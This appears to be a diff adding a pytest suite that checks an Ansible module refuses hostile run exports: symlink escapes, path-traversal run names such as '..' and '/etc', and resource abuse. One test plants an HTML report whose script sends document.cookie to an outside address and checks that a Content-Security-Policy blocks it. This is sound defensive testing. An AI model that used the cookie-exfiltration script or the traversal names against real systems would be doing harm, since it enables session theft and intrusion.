@@ -1,0 +1,190 @@
+"""Hostile exports: nothing outside of results/ changes, nothing takes long or much, and the good run comes home."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import pytest
+from ansible_collections.edge_ai.cluster.plugins.module_utils import results as program
+
+from tests.support import hostile
+
+ROOT = Path(__file__).resolve().parents[4]
+SCHEMA = ROOT / "notebooks/timings.schema.json"
+MODULE = """
+import sys
+from ansible.module_utils.testing import patch_module_args
+from ansible_collections.edge_ai.cluster.plugins.modules import notebooks_state
+import json
+with patch_module_args(json.load(sys.stdin)):
+    notebooks_state.main()
+"""
+
+
+class Done(NamedTuple):
+    """A program that ended."""
+
+    code: int
+    out: str
+    err: str
+
+
+@pytest.fixture
+def place() -> Iterator[Path]:
+    """Folders that the user of an export may enter, unlike those of pytest."""
+    with tempfile.TemporaryDirectory(prefix="hostile-") as name:
+        Path(name).chmod(0o755)
+        for folder in ("export", "outside", "results"):
+            (Path(name) / folder).mkdir()
+        (Path(name) / "outside/home").mkdir()
+        (Path(name) / "outside/home/authorized_keys").write_text("mine")
+        (Path(name) / "outside/secret").write_text("secret")
+        (Path(name) / "outside/secret").chmod(0o600)
+        yield Path(name)
+
+
+def run(arguments: list[str], given: Path) -> Done:
+    """A program that must take less than 10 s of a processor and 256 MB."""
+    environment = {**os.environ, "PYTHONPATH": f"{ROOT}/collections:{ROOT}", "LC_ALL": "C.UTF-8"}
+    with given.open("rb") as stdin, tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
+        process = subprocess.Popen(
+            [sys.executable, *arguments], stdin=stdin, stdout=out, stderr=err, env=environment, cwd="/"
+        )
+        _, status, usage = os.wait4(process.pid, 0)
+        process.returncode = os.waitstatus_to_exitcode(status)
+        out.seek(0), err.seek(0)
+        done = Done(process.returncode, out.read().decode(), err.read().decode())
+    assert usage.ru_utime + usage.ru_stime < 11, "too long"
+    assert usage.ru_maxrss < 256 * 1024, f"{usage.ru_maxrss} KiB"
+    assert "Traceback" not in done.err, done.err
+    return done
+
+
+def snapshot(folder: Path) -> dict[str, Any]:
+    """All that is in a folder: kind, mode, time of change and content."""
+    found = {}
+    for path in sorted(folder.rglob("*")):
+        status = path.lstat()
+        content = path.read_bytes() if path.is_file() else b""
+        found[str(path)] = (status.st_mode, status.st_uid, status.st_mtime_ns, content)
+    return found
+
+
+def state(place: Path) -> dict[str, Any]:
+    arguments = {"export": str(place / "export"), "files": {"notebooks/run.py": "0" * 64}, "inputs_digest": "ab" * 32}
+    (place / "arguments").write_text(json.dumps(arguments))
+    done = run(["-c", MODULE], place / "arguments")
+    found: dict[str, Any] = json.loads(done.out)
+    assert done.code == 0, found
+    return found
+
+
+def collect(place: Path, found: dict[str, Any]) -> list[str]:
+    """What notebooks_results does with the candidates, but for the way from the board; the messages."""
+    messages = []
+    for one in found["candidates"]:
+        target = program.target_of(place / "results", one["run"])
+        archive = place / "export/runs" / target.name / "results.tar.gz"
+        assert archive.lstat().st_size <= 32 << 20 and archive.is_file()
+        arguments = ["-m", program.__name__, str(place / "results"), one["run"], one["archive_sha256"], str(SCHEMA)]
+        done = run(arguments, archive)
+        if done.code == 0:
+            program.link(place / "results", one["run"])
+            return messages
+        assert not target.exists()
+        messages.append(done.err)
+    raise AssertionError(f"the good run did not come home: {messages}")
+
+
+def belongs_to_the_share(export: Path) -> None:
+    if os.geteuid() == 0:
+        for path in (export, *export.rglob("*")):
+            os.chown(path, 10001, 10001, follow_symlinks=False)
+
+
+@pytest.mark.parametrize("name", sorted(hostile.CASES))
+def test_a_hostile_run_hurts_nobody_and_the_good_one_comes_home(place: Path, name: str) -> None:
+    hostile.build(place / "export", place / "outside", [name])
+    belongs_to_the_share(place / "export")
+    outside = snapshot(place / "outside")
+    began = time.monotonic()
+    found = state(place)
+    messages = [*found["refused"], *collect(place, found)]
+    assert time.monotonic() - began < 60
+    assert snapshot(place / "outside") == outside
+    assert not (place / "escaped").exists()
+    home = sorted(path.name for path in (place / "results").iterdir())
+    # What complete.json says of names is not used: such a run comes home under the name of its folder.
+    wanted = "20261122T021500Z-00000000" if name in ("absolute_run", "run_with_dots") else hostile.GOOD
+    assert home == sorted((wanted, "latest")), messages
+    assert (place / "results/latest").readlink() == Path(wanted)
+    for message in messages:
+        assert message.strip().isprintable(), repr(message)
+        assert len(message) < 2000
+
+
+def test_every_refusal_names_the_file(place: Path) -> None:
+    hostile.build(place / "export", place / "outside", sorted(hostile.CASES))
+    belongs_to_the_share(place / "export")
+    found = state(place)
+    assert len(found["refused"]) > 10
+    for message in found["refused"][:-1]:
+        assert re.match(rf"{place}/export/runs/\S+", message), message
+
+
+def test_folders_and_links_at_the_top_are_not_followed(place: Path) -> None:
+    (place / "outside/runs").mkdir()
+    hostile.good(place / "outside/runs" / hostile.GOOD)
+    (place / "export/runs").symlink_to(place / "outside/runs")
+    (place / "export/notebooks").symlink_to(place / "outside")
+    belongs_to_the_share(place / "export")
+    arguments = {"export": str(place / "export"), "files": {"notebooks/secret": "0" * 64}, "inputs_digest": "ab" * 32}
+    (place / "arguments").write_text(json.dumps(arguments))
+    done = run(["-c", MODULE], place / "arguments")
+    assert done.code == 1
+    assert f"{place}/export/runs: leads over a link or a file" in json.loads(done.out)["msg"]
+
+
+def test_a_page_of_a_run_can_run_no_script(place: Path) -> None:
+    page = b"<html><script>fetch('http://10.77.0.1/' + document.cookie)</script></html>"
+    record = json.dumps(hostile.timings()).encode()
+    hostile.complete(place / "export/runs" / hostile.GOOD, hostile.tar(("timings.json", record), ("report.html", page)))
+    belongs_to_the_share(place / "export")
+    assert collect(place, state(place)) == []
+    written = (place / "results/latest/report.html").read_bytes()
+    assert written.startswith(
+        b'<!DOCTYPE html><meta http-equiv="Content-Security-Policy" content="default-src \'none\';'
+    )
+    assert written.endswith(page)
+
+
+@pytest.mark.parametrize(
+    "name", ["..", ".", "", "/etc", "latest", "20261101T000000Z-1a2b3c4d/..", "20261101T000000Z-1a2b3c4d\n"]
+)
+def test_a_name_that_is_no_run_s_is_refused_before_anything_is_touched(place: Path, name: str) -> None:
+    (place / "archive").write_bytes(hostile.tar(hostile.record()))
+    before = snapshot(place)
+    done = run(["-m", program.__name__, str(place / "results"), name, "0" * 64, str(SCHEMA)], place / "archive")
+    assert done.code == 1 and "does not match" in done.err
+    assert snapshot(place) == before
+
+
+def test_what_a_killed_run_left_is_replaced_and_a_link_in_its_place_is_not_followed(place: Path) -> None:
+    (place / "results" / hostile.GOOD).symlink_to(place / "outside")
+    hostile.build(place / "export", place / "outside", [])
+    belongs_to_the_share(place / "export")
+    outside = snapshot(place / "outside")
+    assert collect(place, state(place)) == []
+    assert snapshot(place / "outside") == outside
+    assert not (place / "results" / hostile.GOOD).is_symlink()
+    shutil.rmtree(place / "results" / hostile.GOOD)
